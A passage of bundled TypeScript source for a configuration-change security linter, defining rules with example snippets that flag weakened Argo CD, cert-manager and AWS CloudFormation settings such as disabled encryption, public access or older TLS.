    dialect: dialect2,
    governs: either(...["prune", "selfHeal", "allowEmpty"].map((name) => atEnd("syncPolicy", "automated", name))),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "Argo CD waits for somebody to delete or undo",
      weak: "syncPolicy: { automated: { selfHeal: true } }",
      safe: "syncPolicy: { automated: { selfHeal: false } }",
      file: (lines) => application(lines === "" ? "syncPolicy: { automated: {} }" : lines)
    })
  }),
  control({
    id: "config/argocd-sync-replaces",
    class: "data-loss",
    title: "Argo CD replaces objects instead of updating them",
    why: "A replaced object is deleted first: volumes, addresses and whatever a controller kept in it may go too.",
    fix: "Set the option on the one object that needs it, by an annotation.",
    dialect: dialect2,
    // The list sets options by name, and is read as the map it stands for.
    governs: either(atEnd("syncPolicy", "syncOptions", "Replace"), atEnd("syncPolicy", "syncOptions", "Force")),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "Argo CD updates objects again",
      weak: "syncPolicy: { syncOptions: [CreateNamespace=true, Replace=true] }",
      safe: "syncPolicy: { syncOptions: [CreateNamespace=true, Replace=false] }",
      file: (lines) => application(lines === "" ? "syncPolicy: { syncOptions: [CreateNamespace=true] }" : lines)
    })
  })
];

// src/domains/config/rules/cert-manager/certificates.ts
var dialect3 = "kubernetes";
var issuer = object("cert-manager.io/v1", "ClusterIssuer");
var certificate = object("cert-manager.io/v1", "Certificate");
var acme = (server2) => issuer(`acme: { server: ${server2} }`);
var PRODUCTION2 = "https://acme-v02.api.letsencrypt.org/directory";
var STAGING = "https://acme-staging-v02.api.letsencrypt.org/directory";
function hoursOf(node) {
  const total = node.kind === "scalar" ? seconds(node.text) ?? 0 : 0;
  return total > 0 ? total / 3600 : void 0;
}
var certificates_default = [
  control({
    id: "config/issuer-staging",
    class: "encryption-disabled",
    title: "certificates from a staging authority",
    why: "No client trusts them: browsers warn, and calls fail.",
    fix: "Keep the production server; use an issuer of its own to try things.",
    dialect: dialect3,
    governs: ({ keys }) => endsWith(keys, ["acme", "server"]),
    rank: (node) => node.kind === "scalar" ? Number(!/staging/i.test(node.text)) : void 0,
    outcomes: { flip: moved2("high"), hardened: hardened("certificates that clients trust") },
    examples: [
      { before: acme(PRODUCTION2), after: acme(STAGING), outcome: "flip" },
      { before: acme(STAGING), after: acme(PRODUCTION2), outcome: "hardened" },
      { before: acme(PRODUCTION2), after: acme("https://ca.example.com"), outcome: "none" }
    ]
  }),
  control({
    id: "config/issuer-unverified",
    class: "encryption-disabled",
    title: "certificate authority not verified",
    why: "Whoever stands in between can hand out certificates.",
    fix: "Give the authority in `caBundle` instead.",
    dialect: dialect3,
    governs: ({ keys }) => endsWith(keys, ["acme", "skipTLSVerify"]),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "certificate authority verified",
      weak: "acme: { skipTLSVerify: true }",
      safe: "acme: { skipTLSVerify: false }",
      file: issuer
    })
  }),
  control({
    id: "config/certificate-key-shortened",
    class: "encryption-disabled",
    title: "key of a certificate shortened",
    why: "A shorter key is easier to break, for as long as the certificate holds.",
    fix: "Keep the size.",
    dialect: dialect3,
    governs: ofKind("Certificate", "spec", "privateKey", "size"),
    rank: (node) => node.kind === "scalar" && /^\d{2,5}$/.test(node.text) ? Number(node.text) : void 0,
    // The name of the setting says key, so its values are never shown.
    outcomes: {
      flip: { risk: "medium", message: () => "The key of the certificate is shorter than it was." },
      hardened: {
        ...hardened("key of a certificate lengthened"),
        message: () => "The key of the certificate is longer."
      }
    },
    examples: [
      {
        before: certificate("privateKey: { algorithm: RSA, size: 4096 }"),
        after: certificate("privateKey: { algorithm: RSA, size: 2048 }"),
        outcome: "flip"
      },
      {
        before: certificate("privateKey: { algorithm: RSA, size: 2048 }"),
        after: certificate("privateKey: { algorithm: RSA, size: 4096 }"),
        outcome: "hardened"
      },
      { before: certificate("privateKey: { size: 2048 }"), after: certificate(), outcome: "none" }
    ]
  }),
  control({
    id: "config/certificate-algorithm-lowered",
    class: "encryption-disabled",
    title: "certificate with another kind of key",
    why: "Keys of this kind are weaker or slower at the same size.",
    fix: "Keep `ECDSA` or `Ed25519`, unless a client cannot take it.",
    dialect: dialect3,
    governs: ofKind("Certificate", "spec", "privateKey", "algorithm"),
    rank: ordered(["Ed25519", "ECDSA", "RSA"]),
    outcomes: {
      flip: { risk: "medium", message: () => "The key of the certificate is of a weaker kind than it was." },
      hardened: {
        ...hardened("certificate with a stronger kind of key"),
        message: () => "The key is of a stronger kind."
      }
    },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        before: certificate("privateKey: { algorithm: ECDSA }"),
        after: certificate("privateKey: { algorithm: RSA }"),
        outcome: "flip"
      },
      {
        before: certificate("privateKey: { algorithm: RSA }"),
        after: certificate("privateKey: { algorithm: Ed25519 }"),
        outcome: "hardened"
      },
      {
        before: certificate("privateKey: { algorithm: RSA }"),
        after: certificate('privateKey: { algorithm: "RSA" }'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/certificate-renewed-later",
    class: "availability",
    title: "certificate lives longer, or is renewed later",
    why: "A stolen key is of use for longer; or a renewal that fails leaves no time to mend it.",
    fix: "Keep the life short, and renew when a third of it is left.",
    dialect: dialect3,
    governs: either(ofKind("Certificate", "spec", "duration"), ofKind("Certificate", "spec", "renewBefore")),
    rank: (node, { keys }) => {
      const hours = hoursOf(node);
      return hours === void 0 || keys.at(-1) === "renewBefore" ? hours : -hours;
    },
    outcomes: { flip: moved2("low"), hardened: hardened("certificate renewed sooner") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: certificate("duration: 2160h"), after: certificate("duration: 87600h"), outcome: "flip" },
      { before: certificate("renewBefore: 720h"), after: certificate("renewBefore: 1h"), outcome: "flip" },
      { before: certificate("renewBefore: 1h"), after: certificate("renewBefore: 720h"), outcome: "hardened" },
      { before: certificate("duration: 24h"), after: certificate("duration: 24h0m"), outcome: "none" }
    ]
  }),
  control({
    id: "config/issuer-solver-changed",
    class: "availability",
    title: "authority proves the name in another way",
    why: "Where the new way does not work, certificates are not renewed and run out.",
    fix: "Try the solver with a certificate of its own first.",
    dialect: dialect3,
    governs: ({ keys, ownerBefore, ownerAfter }) => endsWith(keys.slice(0, -1), ["acme", "solvers"]) && ["dns01", "http01"].includes(keys.at(-1) ?? "") && ownerBefore !== void 0 && ownerAfter !== void 0,
    rank: () => 1,
    absent: 0,
    outcomes: { drop: { risk: "low", message: (c) => `The solver \`${c.name}\` was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      {
        before: issuer("acme: { solvers: [{ dns01: { route53: {} } }] }"),
        after: issuer("acme: { solvers: [{ http01: { ingress: {} } }] }"),
        outcome: "drop"
      },
      {
        before: issuer("acme: { solvers: [{ dns01: { route53: {} } }] }"),
        after: issuer("acme: { solvers: [{ dns01: { route53: { region: a } } }] }"),
        outcome: "none"
      },
      { before: issuer("acme: { solvers: [{ dns01: {} }] }"), after: "", outcome: "none" }
    ]
  })
];

// src/domains/config/cloudformation/examples.ts
var resource = (type) => (lines = "") => `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Main:
    Type: ${type}
    Properties:
      Tags: []${`
${lines}`.trimEnd().replaceAll("\n", "\n      ")}
`;
var role = (statement) => resource("AWS::IAM::Role")(`Policies: [{ PolicyName: main, PolicyDocument: { Statement: [${statement}] } }]`);

// src/domains/config/cloudformation/properties.ts
var ENCRYPTS = [
  ["AWS::RDS::DBInstance", "StorageEncrypted"],
  ["AWS::RDS::DBCluster", "StorageEncrypted"],
  ["AWS::DocDB::DBCluster", "StorageEncrypted"],
  ["AWS::Neptune::DBCluster", "StorageEncrypted"],
  ["AWS::EC2::Volume", "Encrypted"],
  ["AWS::EFS::FileSystem", "Encrypted"],
  ["AWS::Redshift::Cluster", "Encrypted"],
  ["AWS::DynamoDB::Table", "SSESpecification.SSEEnabled"],
  ["AWS::ElastiCache::ReplicationGroup", "AtRestEncryptionEnabled"],
  ["AWS::ElastiCache::ReplicationGroup", "TransitEncryptionEnabled"],
  ["AWS::OpenSearchService::Domain", "EncryptionAtRestOptions.Enabled"],
  ["AWS::OpenSearchService::Domain", "NodeToNodeEncryptionOptions.Enabled"],
  ["AWS::OpenSearchService::Domain", "DomainEndpointOptions.EnforceHTTPS"],
  ["AWS::Elasticsearch::Domain", "EncryptionAtRestOptions.Enabled"],
  ["AWS::Elasticsearch::Domain", "NodeToNodeEncryptionOptions.Enabled"],
  ["AWS::Elasticsearch::Domain", "DomainEndpointOptions.EnforceHTTPS"],
  ["AWS::ElastiCache::ServerlessCache", "TransitEncryptionEnabled"],
  ["AWS::DocDB::DBClusterParameterGroup", "Parameters.tls"],
  ["AWS::RDS::DBParameterGroup", "Parameters.rds.force_ssl"],
  ["AWS::MSK::Cluster", "EncryptionInfo.EncryptionInTransit.InCluster"],
  ["AWS::SQS::Queue", "SqsManagedSseEnabled"]
];
var ENCRYPTION_BLOCKS = [
  ["AWS::S3::Bucket", "BucketEncryption"],
  ["AWS::Kinesis::Stream", "StreamEncryption"],
  ["AWS::EKS::Cluster", "EncryptionConfig"],
  ["AWS::SNS::Topic", "KmsMasterKeyId"],
  ["AWS::SQS::Queue", "KmsMasterKeyId"],
  ["AWS::CloudTrail::Trail", "KMSKeyId"],
  ["AWS::Logs::LogGroup", "KmsKeyId"],
  ["AWS::Backup::BackupVault", "EncryptionKeyArn"],
  ["AWS::EC2::Volume", "KmsKeyId"],
  ["AWS::EFS::FileSystem", "KmsKeyId"],
  ["AWS::MSK::Cluster", "EncryptionInfo"],
  ["AWS::DynamoDB::Table", "SSESpecification"],
  ["AWS::SecretsManager::Secret", "KmsKeyId"],
  ["AWS::ECR::Repository", "EncryptionConfiguration"]
];
var OPENS5 = [
  ["AWS::RDS::DBInstance", "PubliclyAccessible"],
  ["AWS::Redshift::Cluster", "PubliclyAccessible"],
  ["AWS::DMS::ReplicationInstance", "PubliclyAccessible"],
  ["AWS::AmazonMQ::Broker", "PubliclyAccessible"],
  ["AWS::RDS::DBCluster", "PubliclyAccessible"],
  ["AWS::EKS::Cluster", "ResourcesVpcConfig.EndpointPublicAccess"]
];
var AUTHENTICATES = [
  ["AWS::ApiGateway::Method", "AuthorizationType"],
  ["AWS::ApiGatewayV2::Route", "AuthorizationType"],
  ["AWS::Lambda::Url", "AuthType"],
  ["AWS::Serverless::Function", "FunctionUrlConfig.AuthType"],
  ["AWS::Serverless::Api", "Auth.DefaultAuthorizer"],
  ["AWS::Serverless::Function", "Events.*.Properties.Auth.Authorizer"]
];
var BLOCKS_PUBLIC = [
  "BlockPublicAcls",
  "BlockPublicPolicy",
  "IgnorePublicAcls",
  "RestrictPublicBuckets"
].map((name) => ["AWS::S3::Bucket", `PublicAccessBlockConfiguration.${name}`]);
var PROTECTS = [
  ["AWS::RDS::DBInstance", "DeletionProtection"],
  ["AWS::RDS::DBCluster", "DeletionProtection"],
  ["AWS::DocDB::DBCluster", "DeletionProtection"],
  ["AWS::Neptune::DBCluster", "DeletionProtection"],
  ["AWS::DynamoDB::Table", "DeletionProtectionEnabled"],
  ["AWS::DynamoDB::Table", "PointInTimeRecoverySpecification.PointInTimeRecoveryEnabled"],
  ["AWS::RDS::DBInstance", "MultiAZ"],
  ["AWS::S3::Bucket", "ObjectLockEnabled"]
];
var BACKUPS = [
  ["AWS::RDS::DBInstance", "BackupRetentionPeriod"],
  ["AWS::RDS::DBCluster", "BackupRetentionPeriod"],
  ["AWS::DocDB::DBCluster", "BackupRetentionPeriod"],
  ["AWS::Neptune::DBCluster", "BackupRetentionPeriod"]
];
var WATCHES = [
  ["AWS::CloudTrail::Trail", "IsLogging"],
  ["AWS::CloudTrail::Trail", "EnableLogFileValidation"],
  ["AWS::CloudTrail::Trail", "IsMultiRegionTrail"],
  ["AWS::KMS::Key", "EnableKeyRotation"],
  ["AWS::ECR::Repository", "ImageScanningConfiguration.ScanOnPush"]
];
var CONNECTIONS = [
  { property: ["AWS::ElasticLoadBalancingV2::Listener", "Protocol"], order: ["HTTPS", "HTTP"] },
  { property: ["AWS::ElasticLoadBalancingV2::Listener", "Protocol"], order: ["TLS", "TCP"] },
  {
    property: ["AWS::MSK::Cluster", "EncryptionInfo.EncryptionInTransit.ClientBroker"],
    order: ["TLS", "TLS_PLAINTEXT", "PLAINTEXT"]
  },
  {
    property: ["AWS::CloudFront::Distribution", "DistributionConfig.DefaultCacheBehavior.ViewerProtocolPolicy"],
    order: ["https-only", "redirect-to-https", "allow-all"]
  },
  {
    property: ["AWS::CloudFront::Distribution", "DistributionConfig.CacheBehaviors.ViewerProtocolPolicy"],
    order: ["https-only", "redirect-to-https", "allow-all"]
  }
];
var GUARDS2 = [
  ["AWS::ElastiCache::ReplicationGroup", "AuthToken"],
  ["AWS::CloudFront::Distribution", "DistributionConfig.WebACLId"],
  ["AWS::Serverless::Api", "Auth"],
  ["AWS::Serverless::Function", "Events.*.Properties.Auth"],
  ["AWS::Serverless::HttpApi", "Auth"]
];
var IDENTIFIES = [
  ["AWS::RDS::DBInstance", "EnableIAMDatabaseAuthentication"],
  ["AWS::RDS::DBCluster", "EnableIAMDatabaseAuthentication"],
  ["AWS::Neptune::DBCluster", "IamAuthEnabled"]
];
var RECORDS = [
  ["AWS::S3::Bucket", "LoggingConfiguration"],
  ["AWS::CloudFront::Distribution", "DistributionConfig.Logging"],
  ["AWS::ApiGateway::Stage", "AccessLogSetting"],
  ["AWS::ApiGatewayV2::Stage", "AccessLogSettings"]
];
var ORIGINS = [
  ["AWS::ApiGatewayV2::Api", "CorsConfiguration.AllowOrigins"],
  ["AWS::Lambda::Url", "Cors.AllowOrigins"]
];
var REPLACES = [
  ["AWS::RDS::DBInstance", "DBInstanceIdentifier"],
  ["AWS::RDS::DBInstance", "DBName"],
  ["AWS::RDS::DBInstance", "Engine"],
  ["AWS::RDS::DBInstance", "MasterUsername"],
  ["AWS::RDS::DBInstance", "DBSubnetGroupName"],
  ["AWS::RDS::DBInstance", "KmsKeyId"],
  ["AWS::RDS::DBCluster", "DBClusterIdentifier"],
  ["AWS::RDS::DBCluster", "DatabaseName"],
  ["AWS::RDS::DBCluster", "DBSubnetGroupName"],
  ["AWS::RDS::DBCluster", "KmsKeyId"],
  ["AWS::S3::Bucket", "BucketName"],
  ["AWS::DynamoDB::Table", "TableName"],
  ["AWS::DynamoDB::Table", "KeySchema"],
  ["AWS::EFS::FileSystem", "KmsKeyId"],
  ["AWS::EC2::Volume", "AvailabilityZone"],
  ["AWS::Redshift::Cluster", "DBName"],
  ["AWS::Redshift::Cluster", "MasterUsername"],
  ["AWS::DocDB::DBCluster", "DBClusterIdentifier"],
  ["AWS::Neptune::DBCluster", "DBClusterIdentifier"],
  ["AWS::Cognito::UserPool", "UsernameAttributes"],
  ["AWS::Kinesis::Stream", "Name"],
  ["AWS::MSK::Cluster", "ClusterName"]
];

// src/domains/config/rules/cloudformation/encryption.ts
var database = resource("AWS::RDS::DBInstance");
var bucket = resource("AWS::S3::Bucket");
var listener = resource("AWS::ElasticLoadBalancingV2::Listener");
var ENCRYPTED = "BucketEncryption: { ServerSideEncryptionConfiguration: [{ ServerSideEncryptionByDefault: { SSEAlgorithm: AES256 } }] }";
var parameter = resource("AWS::SSM::Parameter");
function leastTls(node) {
  if (node.kind !== "scalar") return void 0;
  return Number(/TLS13-1-[23]|TLS-1-2|FS-1-2|1[._]2|1[._]3|2019-08/.test(node.text));
}
var encryption_default2 = [
  control({
    id: "config/aws-encryption-off",
    class: "encryption-disabled",
    title: "AWS resource no longer encrypts",
    why: "Its data lies or travels in clear text; most types are also replaced, and start empty.",
    fix: "Keep it on.",
    equivalents: [
      "checkov:CKV_AWS_16",
      "checkov:CKV_AWS_3",
      "checkov:CKV_AWS_42",
      "checkov:CKV_AWS_64",
      "checkov:CKV_AWS_5",
      "checkov:CKV_AWS_44",
      "checkov:CKV_AWS_74",
      "checkov:CKV_AWS_90"
    ],
    dialect: "cloudformation",
    governs: isProperty(ENCRYPTS),
    rank: safeOn,
    ...safeWhenSet({
      risk: "critical",
      dropped: "high",
      praise: "AWS resource now encrypts",
      weak: "StorageEncrypted: false",
      safe: "StorageEncrypted: true",
      file: database
    })
  }),
  control({
    id: "config/aws-encryption-removed",
    class: "encryption-disabled",
    title: "encryption of an AWS resource removed",
    why: "The default of the service holds, which is a key of AWS or none.",
    fix: "Keep the block, and the key it names.",
    equivalents: [
      "checkov:CKV_AWS_19",
      "checkov:CKV_AWS_26",
      "checkov:CKV_AWS_27",
      "checkov:CKV_AWS_43",
      "checkov:CKV_AWS_35",
      "checkov:CKV_AWS_58",
      "checkov:CKV_AWS_119",
      "checkov:CKV_AWS_136",
      "checkov:CKV_AWS_149",
      "checkov:CKV_AWS_158",
      "checkov:CKV_AWS_166"
    ],
    dialect: "cloudformation",
    governs: isProperty(ENCRYPTION_BLOCKS),
    rank: () => 1,
    byPresence: true,
    absent: 0,
    outcomes: { drop: removed("high", "encryption block"), hardened: hardened("AWS resource now encrypts") },
    examples: [
      { before: bucket(ENCRYPTED), after: bucket(), outcome: "drop" },
      { before: bucket(), after: bucket(ENCRYPTED), outcome: "hardened" },
      { before: bucket(ENCRYPTED), after: bucket(ENCRYPTED.replace("AES256", "aws:kms")), outcome: "none" },
      { before: bucket(ENCRYPTED), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-connection-plain",
    class: "encryption-disabled",
    title: "AWS endpoint takes clear text",
    why: "Requests, credentials included, may cross the network in clear text.",
    fix: "Keep TLS, and redirect those who come without.",
    equivalents: ["checkov:CKV_AWS_2", "checkov:CKV_AWS_34", "checkov:CKV_AWS_81"],
    dialect: "cloudformation",
    governs: isProperty(CONNECTIONS.map(({ property }) => property)),
    rank: (node) => CONNECTIONS.map(({ order }) => ordered(order)(node)).find((rank2) => rank2 !== void 0),
    outcomes: { flip: moved2("high"), hardened: hardened("AWS endpoint now encrypts") },
    examples: [
      { before: listener("Protocol: HTTPS"), after: listener("Protocol: HTTP"), outcome: "flip" },
      { before: listener("Protocol: HTTP"), after: listener("Protocol: HTTPS"), outcome: "hardened" },
      { before: listener("Protocol: HTTPS"), after: listener("Protocol: TLS"), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-old-tls",
    class: "encryption-disabled",
    title: "AWS endpoint takes older TLS",
    why: "Clients may agree on a version before 1.2, which can be broken by who listens.",
    fix: "Keep the policy of TLS 1.2 or later.",
    equivalents: ["checkov:CKV_AWS_103", "checkov:CKV_AWS_174"],
    dialect: "cloudformation",
    governs: isProperty([
      ["AWS::ElasticLoadBalancingV2::Listener", "SslPolicy"],
      ["AWS::CloudFront::Distribution", "DistributionConfig.ViewerCertificate.MinimumProtocolVersion"],
      ["AWS::ApiGateway::DomainName", "SecurityPolicy"]
    ]),
    rank: leastTls,
    outcomes: { flip: moved2("high"), hardened: hardened("AWS endpoint takes newer TLS only") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        before: listener("SslPolicy: ELBSecurityPolicy-TLS13-1-2-2021-06"),
        after: listener("SslPolicy: ELBSecurityPolicy-2016-08"),
        outcome: "flip"
      },
      {
        before: listener("SslPolicy: ELBSecurityPolicy-TLS-1-0-2015-04"),
        after: listener("SslPolicy: ELBSecurityPolicy-TLS-1-2-2017-01"),
        outcome: "hardened"
      },
      {
        before: listener("SslPolicy: ELBSecurityPolicy-TLS13-1-2-2021-06"),
        after: listener("SslPolicy: ELBSecurityPolicy-FS-1-2-Res-2020-10"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/aws-parameter-plain",
    class: "encryption-disabled",
    title: "parameter no longer kept as a secret",
    why: "Everybody who may list parameters reads the value; it is stored and shown in clear text.",
    fix: "Keep `SecureString`, and change the value.",
    equivalents: ["checkov:CKV2_AWS_34"],
    dialect: "cloudformation",
    governs: isProperty([["AWS::SSM::Parameter", "Type"]]),
    rank: unless("String"),
    outcomes: { flip: moved2("high"), hardened: hardened("parameter now kept as a secret") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: parameter("Type: SecureString"), after: parameter("Type: String"), outcome: "flip" },
      { before: parameter("Type: String"), after: parameter("Type: SecureString"), outcome: "hardened" },
      { before: parameter("Type: SecureString"), after: parameter('Type: "SecureString"'), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/cloudformation/exposure.ts
var dialect4 = "cloudformation";
var database2 = resource("AWS::RDS::DBInstance");
var bucket2 = resource("AWS::S3::Bucket");
var method = resource("AWS::ApiGateway::Method");
var block = (value) => bucket2(`PublicAccessBlockConfiguration: { BlockPublicAcls: ${value} }`);
var instance = resource("AWS::EC2::Instance");
var pool = resource("AWS::Cognito::IdentityPool");
var exposure_default2 = [
  control({
    id: "config/aws-publicly-accessible",
    class: "exposure",
    title: "AWS resource reachable from the internet",
    why: "Its address is public: only a password and a security group are left in the way.",
    fix: "Keep it in private subnets, and reach it from there.",
    equivalents: ["checkov:CKV_AWS_17", "checkov:CKV_AWS_87", "checkov:CKV_AWS_89", "checkov:CKV_AWS_69"],
    dialect: dialect4,
    governs: isProperty(OPENS5),
    rank: safeOff,
    ...weakWhenSet({
      risk: "critical",
      praise: "no longer reachable from the internet",
      weak: "PubliclyAccessible: true",
      safe: "PubliclyAccessible: false",
      file: database2
    })
  }),
  control({
    id: "config/aws-unauthenticated",
    class: "permission-widening",
    title: "AWS endpoint open to everybody",
    why: "Anybody on the internet may call it.",
    fix: "Ask for `AWS_IAM`, a token or a key.",
    equivalents: ["checkov:CKV_AWS_59", "checkov:CKV_AWS_258"],
    dialect: dialect4,
    governs: isProperty(AUTHENTICATES),
    rank: unless("NONE"),
    outcomes: { flip: moved2("high"), hardened: hardened("AWS endpoint now asks who calls") },
    examples: [
      { before: method("AuthorizationType: AWS_IAM"), after: method("AuthorizationType: NONE"), outcome: "flip" },
      { before: method("AuthorizationType: NONE"), after: method("AuthorizationType: AWS_IAM"), outcome: "hardened" },
      { before: method("AuthorizationType: AWS_IAM"), after: method("AuthorizationType: CUSTOM"), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-guests",
    class: "permission-widening",
    title: "guests get AWS credentials",
    why: "Anybody gets credentials of the role for guests, without signing in.",
    fix: "Keep it off.",
    equivalents: ["checkov:CKV_AWS_366"],
    dialect: dialect4,
    governs: isProperty([["AWS::Cognito::IdentityPool", "AllowUnauthenticatedIdentities"]]),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "guests get no AWS credentials",
      weak: "AllowUnauthenticatedIdentities: true",
      safe: "AllowUnauthenticatedIdentities: false",
      file: pool
    })
  }),
  control({
    id: "config/bucket-public-block",
    class: "exposure",
    title: "bucket may be made public",
    why: "A single policy or ACL now suffices to show its objects to the internet.",
    fix: "Keep all four switches of the block on.",
    equivalents: ["checkov:CKV_AWS_53", "checkov:CKV_AWS_54", "checkov:CKV_AWS_55", "checkov:CKV_AWS_56"],
    dialect: dialect4,
    governs: isProperty(BLOCKS_PUBLIC),
    rank: safeOn,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("bucket cannot be made public") },
    examples: [
      { before: block("true"), after: block("false"), outcome: "flip" },
      { before: block("true"), after: bucket2(), outcome: "drop" },
      { before: block("false"), after: block("true"), outcome: "hardened" },
      { before: bucket2(), after: block("true"), outcome: "none" }
    ]
  }),
  control({
    id: "config/bucket-public-acl",
    class: "exposure",
    title: "bucket open to everybody",
    why: "Anybody on the internet may list or read its objects.",
    fix: "Keep `Private`, and give access by a policy.",
    equivalents: ["checkov:CKV_AWS_20", "checkov:CKV_AWS_57"],
    dialect: dialect4,
    governs: isProperty([["AWS::S3::Bucket", "AccessControl"]]),
    rank: (node) => node.kind === "scalar" ? Number(!/^(?:Public|AuthenticatedRead)/.test(node.text)) : void 0,
    ...weakWhenSet({
      risk: "critical",
      praise: "bucket no longer open to everybody",
      weak: "AccessControl: PublicRead",
      safe: "AccessControl: Private",
      file: bucket2
    })
  }),
  control({
    id: "config/instance-metadata",
    class: "permission-widening",
    title: "instance credentials easier to steal",
    why: "A request forged through the application can read the credentials of the instance.",
    fix: "Keep `required`.",
    equivalents: ["checkov:CKV_AWS_79"],
    dialect: dialect4,
    governs: isProperty([
      ["AWS::EC2::Instance", "MetadataOptions.HttpTokens"],
      ["AWS::EC2::LaunchTemplate", "LaunchTemplateData.MetadataOptions.HttpTokens"]
    ]),
    rank: unless("optional"),
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("instance credentials harder to steal")
    },
    examples: [
      {
        before: instance("MetadataOptions: { HttpTokens: required }"),
        after: instance("MetadataOptions: { HttpTokens: optional }"),
        outcome: "flip"
      },
      { before: instance("MetadataOptions: { HttpTokens: required }"), after: instance(), outcome: "drop" },
      {
        before: instance("MetadataOptions: { HttpTokens: optional }"),
        after: instance("MetadataOptions: { HttpTokens: required }"),
        outcome: "hardened"
      },
      { before: instance("MetadataOptions: { HttpTokens: required }"), after: "", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/cloudformation/guards.ts
var dialect5 = "cloudformation";
var cache2 = resource("AWS::ElastiCache::ReplicationGroup");
var database3 = resource("AWS::RDS::DBInstance");
var bucket3 = resource("AWS::S3::Bucket");
var cluster = (blocks4) => resource("AWS::EKS::Cluster")(`ResourcesVpcConfig: { PublicAccessCidrs: [${blocks4}] }`);
var api = (origins4) => resource("AWS::ApiGatewayV2::Api")(`CorsConfiguration: { AllowOrigins: [${origins4}] }`);
var permission = resource("AWS::Lambda::Permission");
var unmoved = (node, { before: before3 }) => Number(before3 !== void 0 && signature(node) === signature(before3));
var guards_default = [
  control({
    id: "config/aws-guard-removed",
    class: "permission-widening",
    title: "guard of an AWS resource removed",
    why: "Requests that were refused without a token, or filtered out, now come through.",
    fix: "Keep it, or put the check elsewhere first.",
    equivalents: ["checkov:CKV_AWS_31", "checkov:CKV_AWS_68"],
    dialect: dialect5,
    governs: isProperty(GUARDS2),
    rank: () => 1,
    byPresence: true,
    absent: 0,
    outcomes: {
      drop: { risk: "high", message: (c) => `\`${c.name}\` was removed.` },
      hardened: { ...hardened("AWS resource now guarded"), message: (c) => `\`${c.name}\` is new.` }
    },
    examples: [
      { before: cache2("AuthToken: !Ref Token"), after: cache2(), outcome: "drop" },
      { before: cache2(), after: cache2("AuthToken: plain-text"), outcome: "hardened" },
      { before: cache2("AuthToken: !Ref Token"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-identity-off",
    class: "permission-widening",
    title: "database no longer asks for an identity",
    why: "Only passwords are left, which are shared, kept and stolen.",
    fix: "Keep it on.",
    equivalents: ["checkov:CKV_AWS_161", "checkov:CKV_AWS_162", "checkov:CKV_AWS_359"],
    dialect: dialect5,
    governs: isProperty(IDENTIFIES),
    rank: safeOn,
    ...safeWhenSet({
      risk: "medium",
      praise: "database asks for an identity",
      weak: "EnableIAMDatabaseAuthentication: false",
      safe: "EnableIAMDatabaseAuthentication: true",
      file: database3
    })
  }),
  control({
    id: "config/aws-log-removed",
    class: "observability",
    title: "access to an AWS resource no longer recorded",
    why: "Nobody can tell any more who read or called what.",
    fix: "Keep the log.",
    equivalents: ["checkov:CKV_AWS_18", "checkov:CKV_AWS_76", "checkov:CKV_AWS_86", "checkov:CKV_AWS_95"],
    dialect: dialect5,
    governs: isProperty(RECORDS),
    rank: () => 1,
    byPresence: true,
    absent: 0,
    outcomes: { drop: removed("medium", "access log"), hardened: hardened("access now recorded") },
    examples: [
      { before: bucket3("LoggingConfiguration: { DestinationBucketName: a }"), after: bucket3(), outcome: "drop" },
      { before: bucket3(), after: bucket3("LoggingConfiguration: { DestinationBucketName: a }"), outcome: "hardened" },
      { before: bucket3("LoggingConfiguration: { DestinationBucketName: a }"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-endpoint-cidrs",
    class: "exposure",
    title: "endpoint of a cluster open to more addresses",
    why: "Addresses that were kept out now reach the API of the cluster.",
    fix: "List the ranges that need it, or keep the endpoint private.",
    equivalents: ["checkov:CKV_AWS_38"],
    dialect: dialect5,
    governs: isProperty([["AWS::EKS::Cluster", "ResourcesVpcConfig.PublicAccessCidrs"]]),
    rank: (node, { before: before3 }) => Number(!letsInMore(textsOf(before3 ?? node), textsOf(node))),
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("endpoint open to fewer addresses") },
    refine: ({ transition }) => transition === "flip" || transition === "drop" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: cluster("10.0.0.0/8"), after: cluster("0.0.0.0/0"), outcome: "flip" },
      {
        before: cluster("10.0.0.0/8"),
        after: resource("AWS::EKS::Cluster")("ResourcesVpcConfig: { SubnetIds: [] }"),
        outcome: "drop"
      },
      { before: cluster("0.0.0.0/0"), after: cluster("10.0.0.0/8"), outcome: "hardened" },
      { before: cluster("10.0.0.0/8"), after: cluster("10.1.0.0/16"), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-any-origin",
    class: "exposure",
    title: "any origin may call an AWS endpoint",
    why: "Any web page that a user opens can call it from their browser.",
    fix: "List the origins that need it.",
    dialect: dialect5,
    governs: isProperty(ORIGINS),
    rank: (node) => Number(!textsOf(node).includes("*")),
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("origins listed")
    },
    examples: [
      { before: api("https://a.example"), after: api("'*'"), outcome: "flip" },
      {
        before: resource("AWS::ApiGatewayV2::Api")("CorsConfiguration: { MaxAge: 5 }"),
        after: api("'*'").replace(" }", ", MaxAge: 5 }"),
        outcome: "open"
      },
      { before: "", after: api("'*'"), outcome: "born" },
